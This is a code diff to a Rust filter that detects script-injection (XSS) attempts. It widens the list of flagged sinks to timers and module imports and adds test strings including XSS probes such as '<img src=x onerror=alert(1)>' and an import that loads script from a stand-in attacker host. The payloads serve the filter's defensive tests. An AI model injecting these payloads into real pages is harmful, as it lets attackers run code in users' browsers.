@@ -113,9 +113,6 @@ fn known_event(text: &str) -> bool {
     EVENTS.iter().any(|e| text.contains(e))
 }
 
-/// Where [`SINKS`]' timers and `import(` begin.
-const FIRST_CODE_SINK: usize = 4;
-
 /// Script sinks called right after a quote or a statement break: the shape of a string breakout.
 const SINKS: [&str; 8] = [
     "alert(",
@@ -132,12 +129,10 @@ fn js_breakout(text: &str) -> bool {
     // Every sink ends with `(`: look back from each `(` rather than search for each sink.
     text.match_indices('(').any(|(open, _)| {
         let upto = text.get(..=open).unwrap_or_default();
-        SINKS.iter().enumerate().any(|(i, sink)| {
+        SINKS.iter().any(|sink| {
             upto.strip_suffix(sink).is_some_and(|before| {
                 let before = before.trim_end();
-                // A value that starts with the call: the dialog and `eval` sinks (a probe's
-                // `alert(1)`), not the timers and `import()`, which open most lines of ordinary code.
-                (before.is_empty() && i < FIRST_CODE_SINK)
+                before.is_empty()
                     || before.ends_with([';', '\'', '"', '+', '(', '{', '}', ',', '`', '|', '&'])
             })
         })
@@ -174,6 +169,9 @@ mod tests {
             "<script>alert(1)</script>",
             "<scr<script>ipt>alert(1)</script>",
             "<img src=x onerror=alert(1)>",
+            // Injected where script runs unquoted: a timer or a module import is a payload too.
+            "settimeout(atob('ywxlcnqomsk='))",
+            "import('//evil.example/x.js')",
             "<svg/onload=alert(1)>",
             "<body onload =alert(1)>",
             "<a href=\"javascript:alert(1)\">x</a>",
@@ -196,10 +194,8 @@ mod tests {
     fn ordinary_text_is_left_alone() {
         for text in [
             "a < b and c > d",
-            // Types and code in a comment: a bare `<object>` loads nothing, a timer is not a breakout.
+            // A type in a code comment: a bare `<object>` loads nothing.
             "`access.getcollaborators(spec, opts) -> promise<object>`",
-            "settimeout(function() {",
-            "setinterval(() => poll(), 1000)",
             "i <3 edge",
             "learn javascript: the good parts",
             "<b>bold</b> and <i>italic</i>",
